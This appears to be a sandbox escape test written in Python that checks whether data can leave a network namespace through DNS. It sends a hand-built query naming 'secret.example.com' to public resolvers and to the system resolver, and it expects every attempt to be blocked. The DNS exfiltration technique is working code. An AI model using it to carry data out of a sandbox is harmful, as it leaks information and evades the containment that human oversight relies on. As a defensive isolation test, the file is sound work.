# attempt: carry data out by name lookups: the resolver, and a hand-made DNS query to known servers
# expect: blocked
# layer: namespaces
# control: inside
import errno
import socket
import struct

QUERY = struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + b"\x06secret\x07example\x03com\x00\x00\x01\x00\x01"


def ask(server, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as endpoint:
        try:
            endpoint.sendto(QUERY, (server, port))
            return True
        except OSError as refusal:
            if refusal.errno not in (errno.ENETUNREACH, errno.EPERM, errno.EACCES):
                raise
            return False


def attempt():
    got = [server for server in ("8.8.8.8", "1.1.1.1", "192.0.2.53") if ask(server, 53)]
    try:
        socket.getaddrinfo("secret.example.com", 80)
        got.append("the resolver")
    except socket.gaierror:
        pass
    return f"ESCAPED through {' '.join(got)}" if got else "BLOCKED no query can be sent"


def control():
    """Asks a server of its own on the loopback, so that the machine's name service is left alone."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        server.settimeout(2)
        sent = ask(*server.getsockname())
        return "ESCAPED the query arrived" if sent and server.recv(512) == QUERY else "BLOCKED"


print(control() if globals().get("CONTROL") else attempt())
